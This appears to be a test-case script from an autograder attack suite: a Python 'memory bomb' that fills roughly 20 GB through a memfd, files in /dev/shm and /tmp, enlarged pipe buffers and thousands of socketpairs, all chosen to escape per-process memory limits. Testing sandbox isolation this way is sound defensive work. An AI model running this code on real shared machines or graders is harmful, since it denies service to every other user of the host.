"""Takes up to 20 GB that limits of a process do not count: memfd, shared mappings, files in /dev/shm and /tmp, full pipes and sockets.

family: bombs
start: solved
"""

# %% first
import fcntl
import os
import socket

_kept, _block = [], b"\1" * 2**24
try:
    _memory = os.memfd_create("m")
    for _ in range(800):
        os.write(_memory, _block)
except Exception:
    pass
for _path in ("/dev/shm/autograder-attack-memory_bomb_shared", "/tmp/autograder-attack-memory_bomb_shared-big"):
    try:
        with open(_path, "wb") as _file:
            for _ in range(170):
                _file.write(_block)
    except OSError:
        pass
    try:
        os.remove(_path)
    except OSError:
        pass
try:
    for _ in range(2000):
        _read, _write = os.pipe()
        fcntl.fcntl(_write, 1031, 2**20)  # F_SETPIPE_SZ
        os.set_blocking(_write, False)
        os.write(_write, _block[: 2**20])
        _kept.append((_read, _write))
except OSError:
    pass
try:
    for _ in range(2000):
        _pair = socket.socketpair()
        _pair[0].setblocking(False)
        _pair[0].send(_block[: 2**20])
        _kept.append(_pair)
except OSError:
    pass
